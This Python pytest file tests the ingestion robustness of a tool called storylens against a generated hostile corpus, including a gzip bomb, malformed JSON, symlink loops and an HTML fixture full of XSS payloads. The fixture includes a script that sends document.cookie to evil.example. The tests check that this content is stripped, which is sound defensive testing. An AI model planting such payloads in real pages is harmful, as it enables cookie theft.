"""A hostile corpus, generated on the fly, through the library and the CLI.

Every bad input must come out as one line in the summary (never a traceback), every
good input must still be stored, nothing stored before may be lost, and the exit
status says whether anything could be read at all.
"""

from __future__ import annotations

import gzip
import json
import os
import random
import signal
import sqlite3
import subprocess
import sys
import time
import zlib
from pathlib import Path

import pytest
from click.testing import CliRunner

from storylens.cli import cli
from storylens.config import Settings
from storylens.ingest import Summary, ingest
from storylens.store import Store, StoreError

EXAMPLES = Path(__file__).resolve().parents[1] / "examples" / "kazakhstan-2022"
STORYLENS = Path(sys.executable).with_name("storylens")
STORYLENS_CMD = [str(STORYLENS)] if STORYLENS.exists() else [sys.executable, "-m", "storylens"]
MB = 1024 * 1024
# Annotation (entities, claims…) is not under test here: these tests are about reading, cleaning, storing.
NO_ANNOTATE = "--no-annotate"
IS_ROOT = hasattr(os, "geteuid") and os.geteuid() == 0

# Original text written for this test (English and Russian), nothing taken from real sources.
ENGLISH = (
    "The river ferry at Kestrel Point stopped running on Tuesday after the harbour office reported a "
    "crack in the landing ramp. Commuters waited for two hours before buses were sent from the depot. "
    "Officials said repairs would take at least a week and promised a timetable by Friday."
)
RUSSIAN = (
    "Паромная переправа у посёлка Соколиный мыс прекратила работу во вторник после того, как "
    "портовая служба сообщила о трещине в причальной аппарели. Жители ждали автобусов почти два часа. "
    "Чиновники пообещали, что ремонт займёт не меньше недели, а новое расписание появится к пятнице."
)


def _para(i: int) -> str:
    """A distinct, clean English paragraph (distinct text → distinct document id)."""
    return f"Report number {i}. " + ENGLISH.replace("Tuesday", f"day {i}").replace("two hours", f"{i % 9 + 2} hours")


# --- building the corpus ---------------------------------------------------------------------


def _gzip_bomb(path: Path, size: int = 1024 * MB) -> None:
    """One gzip member that inflates to ``size`` zero bytes, written streaming (≈4 MB on disk)."""
    comp = zlib.compressobj(1, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    block = bytes(MB)
    with path.open("wb") as f:
        for _ in range(size // MB):
            f.write(comp.compress(block))
        f.write(comp.flush())


def _big_text(path: Path, size: int = 200 * MB) -> None:
    """A text file of ``size`` bytes made from a repeated 1 MB block (fast, but real text)."""
    line = (ENGLISH + "\n").encode()
    block = (line * (MB // len(line) + 1))[:MB]
    with path.open("wb") as f:
        for _ in range(size // MB):
            f.write(block)


HTML_ATTACK = """<!DOCTYPE html>
<html><head><title>Harbour ramp cracks</title>
<script>alert('head');document.cookie</script>
<script src="https://evil.example/x.js"></script>
<style>body{background:url("javascript:alert(1)")}</style>
<meta http-equiv="refresh" content="0;url=javascript:alert(2)">
</head>
<body onload="alert('body')">
<nav><a href="javascript:alert(3)">Home</a></nav>
<iframe src="https://evil.example/frame" onload="alert(4)"></iframe>
<iframe srcdoc="&lt;script&gt;alert(5)&lt;/script&gt;"></iframe>
<article>
<h1>Harbour ramp cracks</h1>
<p onclick="alert(6)">PARAGRAPH_ONE {english}</p>
<img src="x" onerror="alert(7)">
<p>PARAGRAPH_TWO {english} <svg onload="alert(8)"><script>alert(9)</script></svg></p>
<script type="text/javascript">
  window.alert(10); fetch('https://evil.example/steal?c=' + document.cookie);
</script>
<p>PARAGRAPH_THREE <a href="javascript:alert(11)" onmouseover="alert(12)">a link</a> {english}</p>
<noscript><script>alert(13)</script></noscript>
<object data="javascript:alert(14)"></object><embed src="javascript:alert(15)">
</article>
<script>alert(16)</script>
</body></html>
"""


def build_hostile(root: Path) -> dict[str, Path]:
    """Write the hostile corpus under ``root``; return name → path of the interesting files."""
    root.mkdir(parents=True, exist_ok=True)
    p: dict[str, Path] = {}

    def write(name: str, data: bytes) -> Path:
        path = root / name
        path.write_bytes(data)
        p[name] = path
        return path

    # Binary files that a scraper may leave behind, whatever their suffix says.
    write("image.txt", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)
    write("paper.txt", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n")
    write("program", b"\x7fELF\x02\x01\x01\x00" + bytes(200))
    rng = random.Random(7)
    write("noise.txt", bytes(rng.randrange(256) for _ in range(64 * 1024)) + b"\x00" * 16)
    # Undecodable: high bytes with no structure of any real encoding, no NULs, no magic.
    write("undecodable.txt", bytes(rng.choice(range(0x80, 0x100)) for _ in range(4096)))
    write("empty.txt", b"")
    write("blank.txt", b"  \n\t\n\r\n   \n" * 50)

    # Legacy and wide encodings must be *read*.
    write("russian_cp1251.txt", ("\n\n".join([RUSSIAN] * 3)).encode("cp1251"))
    write("utf16.txt", ("UTF16_MARKER " + ENGLISH + "\n\n" + RUSSIAN).encode("utf-16"))  # with BOM

    # Sizes: 200 MB of NULs (sparse) and 200 MB of real text, both over the default limit.
    with (root / "huge_sparse.txt").open("wb") as f:
        f.truncate(200 * MB)
    p["huge_sparse.txt"] = root / "huge_sparse.txt"
    _big_text(root / "huge_text.txt")
    p["huge_text.txt"] = root / "huge_text.txt"

    # A gzip bomb: 1 GB of zeros in ≈4 MB; and a good, small gzip next to it.
    _gzip_bomb(root / "bomb.txt.gz")
    p["bomb.txt.gz"] = root / "bomb.txt.gz"
    write("good.txt.gz", gzip.compress(("GZIP_GOOD " + ENGLISH).encode()))
    write("damaged.txt.gz", gzip.compress(ENGLISH.encode())[:30])

    # HTML full of active content, with and without an .html suffix.
    html = HTML_ATTACK.replace("{english}", ENGLISH).encode()
    write("attack.html", html)
    write("attack_no_suffix.txt", html.replace(b"PARAGRAPH_", b"SNIFFED_"))

    # JSON of every kind of wrong.
    write("broken.json", b'{"text": "an unfinished record", "title": ')
    write("no_text.json", json.dumps([{"title": "no body here", "id": 1}, {"headline": "nor here"}]).encode())
    write("scalar.json", b"42")
    lines = [json.dumps({"text": f"JSONL_GOOD_{i} " + _para(1000 + i)}) for i in range(4)]
    lines.insert(2, '{"text": "this line is cut off')
    write("one_bad_line.jsonl", ("\n".join(lines) + "\n").encode())
    write("deep.json", b"[" * 200_000 + b"]" * 200_000)
    deep_obj = '{"text": "DEEP_OK ' + ENGLISH + '", "extra": ' + '{"a": ' * 500 + "1" + "}" * 500 + "}"
    write("deep_ok.json", deep_obj.encode())
    write("surrogate.json", json.dumps({"text": "SURROGATE_TEXT \ud800 broken pair " + ENGLISH}).encode())
    write("deep.html", b"<!DOCTYPE html><html><body>" + b"<div>" * 20_000 + ENGLISH.encode() + b"</div>" * 20_000
          + b"</body></html>")

    # File-system oddities: a symlink loop, a dangling link, an unreadable file, a FIFO.
    (root / "loop_a.txt").symlink_to(root / "loop_b.txt")
    (root / "loop_b.txt").symlink_to(root / "loop_a.txt")
    (root / "dangling.txt").symlink_to(root / "does-not-exist.txt")
    (root / "dir_loop").mkdir()
    (root / "dir_loop" / "self").symlink_to(root / "dir_loop")
    locked = write("locked.txt", ("LOCKED " + ENGLISH).encode())
    locked.chmod(0)
    if hasattr(os, "mkfifo"):
        os.mkfifo(root / "pipe.txt")
        p["pipe.txt"] = root / "pipe.txt"

    # A file whose name is not valid UTF-8 (common in scraped archives).
    bad_name = os.fsdecode(b"bad-name-\xff\xfe.txt")
    (root / bad_name).write_bytes(("BADNAME " + ENGLISH).encode())
    p["bad_name"] = root / bad_name

    # Good files next to all of it.
    for i in range(3):
        write(f"good_{i}.txt", (f"GOOD_{i} " + _para(i)).encode())
    write("good.md", ("# A heading\n\nGOOD_MD " + _para(50)).encode())
    return p


BAD = {
    # name → words that must appear in its one-line reason
    "image.txt": ["PNG"],
    "paper.txt": ["PDF"],
    "program": ["executable"],
    "noise.txt": ["binary"],
    "undecodable.txt": ["encoding"],
    "empty.txt": ["empty"],
    "blank.txt": ["empty"],
    "huge_sparse.txt": ["limit"],
    "huge_text.txt": ["limit"],
    "bomb.txt.gz": ["gzip", "limit"],
    "damaged.txt.gz": ["gzip"],
    "broken.json": ["invalid JSON"],
    "no_text.json": ["text field"],
    "scalar.json": ["JSON"],
    "deep.json": ["nested"],
    "one_bad_line.jsonl": ["line 3"],
    "loop_a.txt": ["cannot read", "symbolic link"],
    "loop_b.txt": ["cannot read", "symbolic link"],
    "dangling.txt": ["cannot read", "symbolic link"],
    "pipe.txt": ["not a regular file"],
}
GOOD_MARKERS = ["GOOD_0", "GOOD_1", "GOOD_2", "GOOD_MD", "GZIP_GOOD", "UTF16_MARKER", "DEEP_OK", "BADNAME",
                "PARAGRAPH_ONE", "SNIFFED_ONE", "SURROGATE_TEXT"] + [f"JSONL_GOOD_{i}" for i in range(4)]


def _reasons(skipped) -> dict[str, str]:
    return {Path(s.origin.split("#", 1)[0]).name: s.reason for s in skipped}


def _texts(db: Path) -> list[str]:
    with sqlite3.connect(db) as con:
        return [r[0] for r in con.execute("SELECT coalesce(text, raw_text) FROM documents")]


# --- fixtures: one corpus, one library run, one CLI run ---------------------------------------


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile") / "corpus"
    build_hostile(root)
    yield root
    os.chmod(root / "locked.txt", 0o644)
    for name in ("huge_text.txt", "huge_sparse.txt", "bomb.txt.gz"):  # pytest keeps old tmp dirs: free 400 MB
        (root / name).unlink()


@pytest.fixture(scope="module")
def library_run(hostile, tmp_path_factory) -> tuple[Summary, Path, dict[str, int]]:
    """The examples first, then the hostile corpus into the same database."""
    db = tmp_path_factory.mktemp("libdb") / "hostile.db"
    with Store(db) as store:
        ingest([EXAMPLES], store, progress=False)
        before = {r["id"]: r["status"] for r in store.documents()}
    mp = pytest.MonkeyPatch()
    if IS_ROOT:  # root reads a chmod 000 file anyway: make it fail as it would for a user
        real = Path.read_bytes

        def read_bytes(self: Path) -> bytes:
            if self.name == "locked.txt":
                raise PermissionError(13, "Permission denied", str(self))
            return real(self)

        mp.setattr(Path, "read_bytes", read_bytes)
    try:
        with Store(db) as store:
            summary = ingest([hostile], store, progress=False)
    finally:
        mp.undo()
    return summary, db, before


@pytest.fixture(scope="module")
def cli_run(hostile, tmp_path_factory) -> tuple[subprocess.CompletedProcess, Path]:
    db = tmp_path_factory.mktemp("clidb") / "hostile.db"
    first = CliRunner().invoke(cli, ["ingest", NO_ANNOTATE, str(EXAMPLES), "--db", str(db), "-q"])
    assert first.exit_code == 0, first.output
    proc = subprocess.run([*STORYLENS_CMD, "ingest", NO_ANNOTATE, str(hostile), "--db", str(db), "--quiet"],
                          capture_output=True, text=True, errors="replace", timeout=300)
    return proc, db


# --- the library ------------------------------------------------------------------------------


def test_library_reports_one_line_per_bad_file(library_run):
    summary, _, _ = library_run
    reasons = _reasons(summary.skipped)
    for name, words in BAD.items():
        if name == "pipe.txt" and not hasattr(os, "mkfifo"):
            continue
        assert name in reasons, f"{name} not reported as skipped; skipped: {reasons}"
        for word in words:
            assert word.lower() in reasons[name].lower(), f"{name}: {reasons[name]!r} lacks {word!r}"
    for s in summary.skipped:
        assert s.reason and "\n" not in s.reason and len(s.reason) < 300, s
        assert "Traceback" not in s.reason
    assert "locked.txt" in reasons and "permission denied" in reasons["locked.txt"].lower()


def test_library_stores_good_files(library_run):
    summary, db, _ = library_run
    texts = "\n".join(_texts(db))
    for marker in GOOD_MARKERS:
        assert marker in texts, f"{marker} was not stored"
    assert summary.read >= len(GOOD_MARKERS)
    reasons = _reasons(summary.skipped)
    for name in ["russian_cp1251.txt", "utf16.txt", "good.txt.gz", "attack.html", "deep_ok.json"]:
        assert name not in reasons, f"{name} skipped: {reasons.get(name)}"


def test_library_reads_cp1251_and_utf16(library_run):
    _, db, _ = library_run
    with sqlite3.connect(db) as con:
        rows = dict(con.execute("SELECT origin, text FROM documents WHERE status = 'clean'").fetchall())
    russian = next(text for origin, text in rows.items() if origin.endswith("russian_cp1251.txt"))
    assert "Паромная переправа у посёлка Соколиный мыс" in russian
    assert "расписание появится к пятнице" in russian
    wide = next(text for origin, text in rows.items() if origin.endswith("utf16.txt"))
    assert "UTF16_MARKER" in wide and "Соколиный мыс" in wide


def test_library_html_has_no_active_content(library_run):
    _, db, _ = library_run
    with sqlite3.connect(db) as con:
        rows = con.execute(
            "SELECT origin, text, raw_text FROM documents WHERE origin LIKE '%attack%'").fetchall()
        fts = [r[0] for r in con.execute(
            "SELECT f.text FROM passages_fts f JOIN documents d ON d.id = f.doc_id WHERE d.origin LIKE '%attack%'")]
    assert len(rows) == 2
    for origin, text, raw_text in rows:
        for stored in (text, raw_text, *fts):
            low = stored.lower()
            for bad in ("<script", "alert(", "onerror", "onload", "<iframe", "javascript:", "document.cookie"):
                assert bad not in low, f"{origin}: {bad!r} in stored text"
        assert "PARAGRAPH_TWO" in text or "SNIFFED_TWO" in text


def test_library_keeps_what_was_stored_before(library_run):
    _, db, before = library_run
    assert before, "the examples should have been stored first"
    with Store(db) as store:
        after = {r["id"]: r["status"] for r in store.documents()}
        assert store.db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    for doc_id, status in before.items():
        assert after.get(doc_id) == status == "clean"
    assert len(after) > len(before)


def test_library_max_bytes_setting(tmp_path):
    corpus = tmp_path / "c"
    corpus.mkdir()
    (corpus / "small.txt").write_text("SMALL " + ENGLISH)
    (corpus / "two_mb.txt").write_bytes((ENGLISH + "\n").encode() * (2 * MB // len(ENGLISH)))
    (corpus / "two_mb.txt.gz").write_bytes(gzip.compress((ENGLISH + "\n").encode() * (2 * MB // len(ENGLISH)), 1))
    settings = Settings()
    settings.read.max_bytes = 1 * MB
    with Store(tmp_path / "s.db") as store:
        summary = ingest([corpus], store, settings, progress=False)
    reasons = _reasons(summary.skipped)
    assert "limit" in reasons["two_mb.txt"] and "1 MB" in reasons["two_mb.txt"]
    assert "gzip" in reasons["two_mb.txt.gz"]
    assert summary.read == 1


def test_multi_member_gzip_is_read_whole(tmp_path):
    """`cat a.gz b.gz > c.gz` is a valid gzip file; both members are text."""
    (tmp_path / "c").mkdir()
    data = gzip.compress(b"MEMBER_ONE first part. ") + gzip.compress(("MEMBER_TWO " + ENGLISH).encode())
    assert gzip.decompress(data).startswith(b"MEMBER_ONE")
    (tmp_path / "c" / "both.txt.gz").write_bytes(data)
    with Store(tmp_path / "s.db") as store:
        summary = ingest([tmp_path / "c"], store, progress=False)
        texts = [r[0] for r in store.db.execute("SELECT raw_text FROM documents")]
    assert summary.read == 1 and not summary.skipped
    assert "MEMBER_ONE" in texts[0] and "MEMBER_TWO" in texts[0]


def test_multi_member_gzip_bomb(tmp_path):
    """Many small members that add up to more than the limit are still a bomb."""
    (tmp_path / "c").mkdir()
    member = gzip.compress(bytes(MB), 1)
    (tmp_path / "c" / "many.txt.gz").write_bytes(member * 60)  # 60 MB inflated, over the 50 MB default
    with Store(tmp_path / "s.db") as store:
        summary = ingest([tmp_path / "c"], store, progress=False)
    assert summary.read == 0
    assert "gzip" in summary.skipped[0].reason


# --- the CLI ----------------------------------------------------------------------------------


def test_cli_hostile_run(cli_run):
    proc, db = cli_run
    out = proc.stdout + proc.stderr
    assert "Traceback" not in out, out[-3000:]
    assert proc.returncode == 0, out[-3000:]
    skipped_lines = [line for line in proc.stdout.splitlines() if line.startswith("  skipped ")]
    names = {Path(line[len("  skipped "):].split(": ", 1)[0].split("#", 1)[0]).name for line in skipped_lines}
    expected = {n for n in BAD if n != "pipe.txt" or hasattr(os, "mkfifo")}
    assert expected <= names, expected - names
    if not IS_ROOT:
        assert "locked.txt" in names
    texts = "\n".join(_texts(db))
    for marker in GOOD_MARKERS:
        assert marker in texts, f"{marker} was not stored by the CLI"
    assert "Паромная переправа" in texts
    with sqlite3.connect(db) as con:
        origins = {r[0] for r in con.execute("SELECT origin FROM documents WHERE status = 'clean'")}
        assert con.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    examples = {str(p) for p in EXAMPLES.iterdir() if p.suffix in {".txt", ".html"}}
    assert examples <= origins, "documents stored before the hostile run were lost"


def test_cli_nothing_readable_fails_clearly(tmp_path):
    corpus = tmp_path / "bad"
    corpus.mkdir()
    (corpus / "empty.txt").write_bytes(b"")
    (corpus / "image.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(64))
    (corpus / "broken.json").write_bytes(b"{")
    result = CliRunner().invoke(cli, ["ingest", NO_ANNOTATE, str(corpus), "--db", str(tmp_path / "x.db"), "-q"])
    assert result.exit_code != 0
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    assert "nothing could be read" in result.output
    assert result.output.count("  skipped ") == 3


def test_cli_empty_folder_fails_clearly(tmp_path):
    (tmp_path / "none").mkdir()
    result = CliRunner().invoke(cli, ["ingest", NO_ANNOTATE, str(tmp_path / "none"), "--db", str(tmp_path / "x.db")])
    assert result.exit_code != 0 and isinstance(result.exception, SystemExit)
    assert "nothing could be read" in result.output


@pytest.mark.parametrize("content", [b"this is not a database at all\n" * 20, b"\x89PNG\r\n\x1a\n" + bytes(300),
                                     b"SQLite format 3\x00" + bytes(84) + b"garbage" * 100])
def test_cli_non_sqlite_db(tmp_path, content):
    (tmp_path / "c").mkdir()
    (tmp_path / "c" / "a.txt").write_text("GOOD " + ENGLISH)
    db = tmp_path / "notes.db"
    db.write_bytes(content)
    for args in (["ingest", NO_ANNOTATE, str(tmp_path / "c"), "--db", str(db)], ["docs", "--db", str(db)],
                 ["search", "ferry", "--db", str(db)]):
        result = CliRunner().invoke(cli, args)
        assert result.exit_code != 0, (args, result.output)
        assert isinstance(result.exception, SystemExit), (args, result.exception)
        assert "Traceback" not in result.output
        assert "not a usable storylens database" in result.output, result.output
    assert db.read_bytes() == content, "the foreign file must be left untouched"


def test_cli_db_is_a_folder(tmp_path):
    (tmp_path / "c").mkdir()
    (tmp_path / "c" / "a.txt").write_text("GOOD " + ENGLISH)
    result = CliRunner().invoke(cli, ["ingest", NO_ANNOTATE, str(tmp_path / "c"), "--db", str(tmp_path)])
    assert result.exit_code != 0 and isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output


def test_library_non_sqlite_db_raises_store_error(tmp_path):
    db = tmp_path / "x.db"
    db.write_bytes(b"%PDF-1.4\n" + bytes(2000))
    with pytest.raises(StoreError, match="not a usable storylens database"):
        Store(db)


def test_ten_thousand_small_files(tmp_path):
    corpus = tmp_path / "many"
    for d in range(10):
        (corpus / f"d{d}").mkdir(parents=True)
    n = 10_000
    for i in range(n):
        (corpus / f"d{i % 10}" / f"{i:05d}.txt").write_text(f"Note {i}: the ferry ran {i} minutes late today.")
    settings = Settings()
    settings.clean.languages = ("en", "ru")  # language detection is not under test here
    start = time.perf_counter()
    with Store(tmp_path / "many.db") as store:
        summary = ingest([corpus], store, settings, progress=False)
        count = store.counts()
    elapsed = time.perf_counter() - start
    print(f"10,000 small files: {elapsed:.1f} s")
    assert summary.files == n and summary.read == n and summary.new == n and not summary.skipped
    assert count["documents"] == count["clean"] == n


class _OutOfTime(BaseException):
    """Not an Exception, so the ingest loop's per-document `except Exception` cannot swallow it."""


@pytest.mark.skipif(not hasattr(signal, "SIGALRM"), reason="needs SIGALRM")
def test_large_document_is_cleaned_in_bounded_time(tmp_path):
    """A 250 kB article (well under --max-size) must not take minutes: linear work takes a few seconds."""
    (tmp_path / "c").mkdir()
    sentences = [f"On day {i} the ferry at Kestrel Point ran {i % 50} minutes late, officials said."
                 for i in range(3000)]
    paragraphs = [" ".join(sentences[i:i + 6]) for i in range(0, len(sentences), 6)]
    (tmp_path / "c" / "long.txt").write_text("\n\n".join(paragraphs))
    assert 200_000 < (tmp_path / "c" / "long.txt").stat().st_size < 300_000

    def out_of_time(*_: object) -> None:
        raise _OutOfTime()

    previous = signal.signal(signal.SIGALRM, out_of_time)
    signal.alarm(12)
    try:
        with Store(tmp_path / "s.db") as store:
            summary = ingest([tmp_path / "c"], store, progress=False)
    except _OutOfTime:
        pytest.fail("cleaning a 250 kB document took more than 12 s")
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
    assert summary.cleaned == 1 and not summary.skipped
